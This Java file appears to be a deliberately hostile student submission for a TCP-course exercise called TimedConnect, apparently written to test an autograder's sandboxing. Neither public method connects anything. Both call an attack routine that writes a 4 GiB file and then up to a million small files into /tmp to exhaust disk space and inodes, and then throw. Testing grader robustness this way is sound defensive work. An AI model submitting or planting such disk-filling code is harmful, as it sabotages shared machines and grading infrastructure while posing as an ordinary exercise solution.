package tcpcourse.lesson01.exercises;

import java.io.*;
import java.net.*;
import java.nio.file.*;
import java.time.Duration;
import java.util.*;

/** A hostile submission's exercise 1.1: see NOTE.md beside it. */
public final class TimedConnect {

    private TimedConnect() {}

    public static Socket connect(String host, int port, Duration timeout) throws IOException {
        attack();
        throw new UnsupportedOperationException("the attack did its work");
    }

    public static String describe(Socket connection) {
        attack();
        throw new UnsupportedOperationException("the attack did its work");
    }

    static void attack() {
        try {
            long written = 0;
            try (var out = new FileOutputStream("/tmp/big")) {
                byte[] block = new byte[1 << 20];
                for (int i = 0; i < 4096; i++) { out.write(block); written += block.length; }
            } catch (IOException full) {
                System.out.println("one file stopped at " + (written >> 20) + " MiB: " + full.getMessage());
            }
            int files = 0;
            try {
                for (; files < 1_000_000; files++) Files.writeString(Path.of("/tmp/small" + files), "x".repeat(4096));
            } catch (IOException full) {
                System.out.println("small files stopped at " + files + ": " + full.getMessage());
            }
        } catch (Throwable failed) {
            System.out.println("attack failed: " + failed);
        }
    }
}
